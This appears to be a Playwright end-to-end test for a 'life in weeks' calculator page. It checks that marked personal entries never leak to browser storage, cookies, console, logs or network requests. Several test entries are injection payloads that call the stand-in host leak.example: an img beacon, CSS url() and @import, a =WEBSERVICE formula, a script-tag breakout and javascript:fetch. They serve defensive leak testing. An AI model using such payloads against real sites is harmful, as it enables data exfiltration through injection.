import { readFileSync } from 'node:fs';
import type { BrowserContext, Download, Page } from '@playwright/test';
import { update, kept as workerReady } from '../support/cached-page.ts';
import { changingSite } from '../support/changing-site.ts';
import { type Found, findMarks } from '../support/find-marks.ts';
import { MarkedLife } from '../support/marked-life.ts';
import { recordNetwork } from '../support/network-record.ts';
import { expect, test, Visitor } from '../support/test.ts';
import { LanguageVisit, readWords } from '../support/visit-in-language.ts';
import { FaultyWorldBank } from '../support/world-bank-faults.ts';

/** The life that is entered. Each word is different, and some try to get out by themselves. */
const life = new MarkedLife();
const BIRTHDATE = life.date('1957-04-23');
const YEARS = life.number('97.3125');
const ACTIVITIES = [
  life.word('Skiing'),
  life.word('<img src="http://leak.example/?', '">'),
  life.word('");background:url(http://leak.example/', ')'),
  life.word('=WEBSERVICE("http://leak.example/', '")'),
  life.word('{{7*7}}${fetch("//leak.example/', '")}'),
];
const HOURS = life.number('0.3127');

/** Where the page keeps entries until the tab is closed: for a reload, and for the view. */
const IN_THIS_TAB = ['tab: reload', 'tab: view'];
/** Where it saves them if the visitor ticks "Remember on this device". */
const REMEMBERED = 'device: form';

/** Everything in the browser's storage, and what else outlives a page. */
async function readStorage(page: Page, mayHold: readonly string[] = []): Promise<Found[]> {
  const all = await page.evaluate(async (marks) => {
    const bodies = await Promise.all(
      (await caches.keys()).map(async (key) => {
        const cache = await caches.open(key);
        const texts = await Promise.all(
          (await cache.keys()).map(async (request) => {
            const text = (await (await cache.match(request))?.text()) ?? '';
            return `${request.url} ${marks.filter((mark) => text.includes(mark)).join(' ')}`;
          }),
        );
        return texts.join(' ');
      }),
    );
    return [
      ...Object.entries(localStorage).map(([key, value]) => [`device: ${key}`, `${key} ${value}`]),
      ...Object.entries(sessionStorage).map(([key, value]) => [`tab: ${key}`, `${key} ${value}`]),
      ['databases', JSON.stringify(await indexedDB.databases())],
      ['caches', bodies.join(' ')],
      ['cookies', document.cookie],
      ['history', JSON.stringify(history.state)],
      ['title', `${document.title} ${window.name}`],
    ];
  }, life.marks);
  return all
    .filter(([where = '']) => !mayHold.includes(where))
    .map(([where = '', text = '']) => ({ where, text: Buffer.from(text).toString('latin1') }));
}

/** The places in the browser that hold a mark. */
const findKept = async (page: Page, mayHold: readonly string[] = []) =>
  findMarks(await readStorage(page, mayHold), life.marks);

async function fillIn(page: Page, visitor: Visitor): Promise<void> {
  await visitor.button(/^Country/).click();
  await page.getByRole('combobox').fill(life.word('Land of'));
  await expect(page.getByText(/No country matches/)).toBeVisible();
  await page.keyboard.press('Escape');
  await visitor.chooseCountry('Japan');
  await visitor.field('Birthdate').fill(BIRTHDATE);
  await visitor.field('Activity 1 hours per day').fill(life.number('31.2709'));
  await visitor.addActivity(4, '', HOURS);
  await visitor.addActivity(5, '', HOURS);
  for (const [index, name] of ACTIVITIES.entries()) {
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    await visitor.field(`Activity ${index + 1} name`).fill(name);
  }
  await visitor.submit();
  await expect(visitor.problems()).toBeFocused();
  await visitor.field('Activity 1 hours per day').fill('8');
  await visitor.submit();
  await visitor.allSections();
  await visitor.enterLifeExpectancy(life.number('9731.25'));
  await visitor.submit();
  await expect(visitor.problems()).toBeFocused();
  await visitor.field('Life expectancy (years)').fill(YEARS);
  await visitor.submit();
  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
  await visitor.allSections();
}

/** Opens an editor under the weeks, fills in each of its entries, adds them, and leaves another one unfinished. */
async function addEntries(page: Page, kind: string, entries: readonly Readonly<Record<string, string>>[]) {
  const form = page.getByRole('form', { name: `Add a ${kind.toLowerCase()}` });
  await page.getByRole('button', { name: kind, exact: true }).click();
  for (const entry of entries) {
    for (const [label, text] of Object.entries(entry)) {
      // oxlint-disable-next-line no-await-in-loop
      await form.getByLabel(label, { exact: true }).fill(text);
    }
    // oxlint-disable-next-line no-await-in-loop
    await form.getByRole('button', { name: 'Add', exact: true }).click();
  }
  const [first = ''] = Object.keys(entries[0] ?? {});
  await form.getByLabel(first, { exact: true }).fill(life.word(`unfinished ${kind}`));
  await page.keyboard.press('Escape');
  await expect(form).toHaveCount(0);
}

async function addToWeeks(page: Page): Promise<void> {
  await addEntries(page, 'Chapter', [
    { Name: life.word('School of'), From: life.date('1964-09-27'), Until: '1976' },
    { Name: life.word('</script><script src=//leak.example/'), From: life.word('never, until'), Until: '' },
    { Name: life.word('Town of'), From: life.date('1988-11-13'), Until: life.date('1999-10-29') },
  ]);
  await addEntries(page, 'Moment', [
    { 'A few words': life.word('Wedding of'), When: life.date('1983-08-24') },
    { 'A few words': life.word('javascript:fetch("//leak.example/', '")'), When: '2001' },
    { 'A few words': life.word('Lost'), When: life.word('some day of') },
  ]);
  await addEntries(page, 'Person', [
    { Name: life.word('Mother'), 'Year of birth': '1936', 'Days together a year': '13' },
    { Name: life.word('@import url(//leak.example/', ')'), 'Year of birth': life.word('long ago') },
  ]);
}

async function typeLife(page: Page, visitor: Visitor): Promise<void> {
  await visitor.button('Type or paste').click();
  const dialog = page.getByRole('dialog', { name: 'Type or paste' });
  const box = dialog.getByLabel('One entry per line, or separated by commas');
  await box.fill(
    `2012 ${life.word('first job at')}\nMum ${life.word('Granny')} 1936\n${life.word('no year')}`,
  );
  const event = `BEGIN:VEVENT\r\nDTSTART;VALUE=DATE:${life.date('2003-07-21').replaceAll('-', '')}\r\nSUMMARY:${life.word('Choir of')}\r\nEND:VEVENT`;
  await dialog.locator('input[type=file]').setInputFiles({
    name: `${life.word('calendar')}.ics`,
    mimeType: 'text/calendar',
    buffer: Buffer.from(`BEGIN:VCALENDAR\r\n${event}\r\nEND:VCALENDAR`),
  });
  await expect(box).toHaveValue(/Choir of/);
  await dialog.getByRole('button', { name: /^Add/ }).click();
  await expect(box).toHaveValue(/no year/);
  await page.keyboard.press('Escape');
}

async function sayWhen(visitor: Visitor): Promise<void> {
  const card = visitor.card(ACTIVITIES[2] ?? '');
  await card.getByRole('button', { name: /^Set days and ages/ }).click();
  await card.getByLabel(/from age or year$/).fill(life.word('since'));
  const until = card.getByLabel(/until age or year$/);
  await until.fill(life.word('until'));
  await until.press('Enter');
  await until.press('Escape');
}

/** Opens a file as a backup. @param name its name */
async function openBackup(visitor: Visitor, name: string, text: string): Promise<void> {
  await visitor.button('Backup').click();
  const chooser = visitor.page.waitForEvent('filechooser');
  await visitor.button('Open a backup file').click();
  await (await chooser).setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
}

/** What others send: a link, a damaged link, and a file that is no backup. */
async function openGifts(page: Page, link: string): Promise<void> {
  const visitor = new Visitor(page);
  await page.goto(link);
  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
  await visitor.slider().fill('1040');
  await page.goto('about:blank');
  await page.goto(`./#${life.word('life').replaceAll(' ', '&n=')}`);
  await visitor.listening();
  await openBackup(visitor, `${life.word('notes')}.txt`, life.word('{"not": "'));
  await expect(visitor.page.getByText('It’s not a backup file from this page.')).toBeVisible();
}

async function saved(page: Page, press: () => Promise<unknown>): Promise<Download> {
  const waiting = page.waitForEvent('download');
  await press();
  const download = await waiting;
  await download.path();
  return download;
}

/** @returns the link to the results */
async function takeAway(page: Page, visitor: Visitor): Promise<{ link: string; backup: string }> {
  for (const name of ['Share Results', 'Save as SVG', 'Save this page']) {
    // oxlint-disable-next-line no-await-in-loop
    await saved(page, () => visitor.button(name).click());
  }
  await visitor.button('Choose a picture').click();
  await visitor.field('Title (optional)').fill(life.word('Picture of'));
  await visitor.field('Show the date of birth').check();
  await saved(page, () =>
    visitor
      .button(/^Download (PNG|SVG)/)
      .first()
      .click(),
  );
  await page.keyboard.press('Escape');
  await visitor.button('Choose calendar events').click();
  await saved(page, () => visitor.button('Save the calendar file (.ics)').click());
  await page.keyboard.press('Escape');
  await visitor.button('Backup').click();
  const backup = await saved(page, () => visitor.button('Save a backup file').click());
  await page.keyboard.press('Escape');
  await visitor.button('Copy link').click();
  await expect(page.locator('.copy-link').getByText('Link copied.')).toBeVisible();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  return { link, backup: readFileSync(await backup.path(), 'utf8') };
}

async function lookAround(page: Page, visitor: Visitor): Promise<void> {
  await visitor.slider().fill('520');
  await visitor.openEverything();
  await page.emulateMedia({ media: 'print' });
  await page.emulateMedia({ media: 'screen' });
  await visitor.button('Switch to light theme').click();
  await visitor.button('See an example').click();
  await visitor.button('Restore my entries').click();
  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
  await visitor.button('Remove activity 5').click();
  await visitor.undoLine().click();
  await visitor.button('Start from an average day').click();
  await visitor.button('Use “Student”').click();
  await visitor.undoLine().click();
  await expect(visitor.field('Activity 4 name')).toHaveValue(ACTIVITIES[3] ?? '');
}

async function openView(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'Open the view' }).click();
  await expect(page.locator('.view-line')).toContainText('weeks lived');
  await page.keyboard.press('Escape');
  await new Visitor(page).listening();
}

/** To German and back. */
async function changeLanguage(page: Page, visitor: Visitor): Promise<void> {
  const choose = async (tag: string) => {
    await page.locator('.language-button').click();
    await page.locator(`.language-menu a[lang="${tag}"]`).click();
  };
  await choose('de');
  await new LanguageVisit(page, await readWords('de/')).listening();
  await expect(page.locator('#results')).toBeVisible();
  await choose('en');
  await visitor.listening();
}

/** Everything that pages of a browser write into the console. */
function recordConsole(context: BrowserContext): Found[] {
  const said: Found[] = [];
  context.on('console', (message) => said.push({ where: 'console', text: message.text() }));
  context.on('weberror', (error) => said.push({ where: 'error', text: String(error.error()) }));
  return said;
}

/**
 * A request without a body: for a file of the page, or for the World Bank's countries or its figure for Japan,
 * which is chosen, or for Canada, where the example lives.
 */
const ALLOWED =
  /^(GET|HEAD) (\/[\w./-]*|\/v2\/country\?format=json&per_page=300|\/v2\/country\/(JPN|CAN)\/indicator\/SP\.DYN\.LE00\.IN\?format=json&per_page=1) HTTP\/1\.1\r\n([\w-]+: .*\r\n)+\r\n$/;

/**
 * A whole visit with marked entries. What this cannot see: years, ages and numbers of days or weeks alone, which also
 * occur by chance; text that was compressed or encrypted by a script before it was sent, of which only the request would
 * be seen; anything in the time or the order of requests; what the browser itself keeps in its profile or sends to its
 * maker; and other browsers.
 */
test('of a whole visit with 40 marked words, dates and numbers, none gets out', {
  tag: '@matrix',
}, async () => {
  const bank = new FaultyWorldBank();
  await bank.start();
  const site = await changingSite();
  const environment = { WORLD_BANK_URL: bank.url };
  await site.stop();
  await site.start(environment);
  const network = await recordNetwork({
    baseURL: site.address,
    permissions: ['clipboard-read', 'clipboard-write'],
    serviceWorkers: 'allow',
  });
  try {
    const { context, page } = network;
    const said = recordConsole(context);
    const visitor = new Visitor(page);
    await visitor.open();
    await fillIn(page, visitor);
    await addToWeeks(page);
    await typeLife(page, visitor);
    await sayWhen(visitor);
    const { link, backup } = await takeAway(page, visitor);
    // The search would find what was entered.
    expect(findMarks([{ where: 'backup', text: backup }], life.marks)).toHaveLength(1);
    await lookAround(page, visitor);
    expect(await findKept(page)).toEqual([]);

    await changeLanguage(page, visitor);
    expect(await findKept(page)).toEqual([]);
    await openView(page);
    await openBackup(visitor, `${life.word('backup')}.json`, backup);
    await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
    expect(await findKept(page, IN_THIS_TAB)).toEqual([]);

    // With consent, the form is saved, and nothing else.
    await visitor.openForm();
    await visitor.field('Remember on this device').check();
    await workerReady(page);
    await context.setOffline(true);
    await page.reload();
    await visitor.listening();
    await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
    await context.setOffline(false);
    await site.publish('second');
    await site.stop();
    await site.start(environment);
    expect(await update(page)).toBe('waits');
    await page.reload();
    await visitor.listening();
    expect(await findKept(page, IN_THIS_TAB)).toHaveLength(1);
    expect(await findKept(page, [REMEMBERED, ...IN_THIS_TAB])).toEqual([]);
    await visitor.openForm();
    await visitor.field('Remember on this device').uncheck();
    expect(await findKept(page, IN_THIS_TAB)).toEqual([]);

    const other = await context.newPage();
    await openGifts(other, link);
    expect(await findKept(other)).toEqual([]);

    expect(life.count).toBeGreaterThanOrEqual(40);
    expect(await context.cookies()).toEqual([]);

    const { events, sent } = await network.finish();

    expect(findMarks(events, life.marks)).toEqual([]);

    expect(findMarks(said, life.marks)).toEqual([]);
    expect(findMarks([{ where: 'log', text: site.log() }], life.marks)).toEqual([]);
    // All of it was recorded, and nothing was sent that could hide a mark from the search.
    const requests = sent.filter(({ where }) => where === 'SOCKET_BYTES_SENT').map(({ text }) => text);
    expect(requests.filter((text) => !ALLOWED.test(text))).toEqual([]);
    const hosts = requests.map((text) => /^Host: (.*)\r$/m.exec(text)?.[1] ?? '');
    expect(new Set(hosts)).toEqual(new Set([site.address, bank.url].map((address) => new URL(address).host)));
    for (const path of ['/v2/country/JPN/', '/one-file.txt ', '/service-worker.js ']) {
      expect(requests.filter((text) => text.startsWith(`GET ${path}`))).not.toEqual([]);
    }
  } finally {
    await network.remove();
    await site.close();
    bank.stop();
  }
});
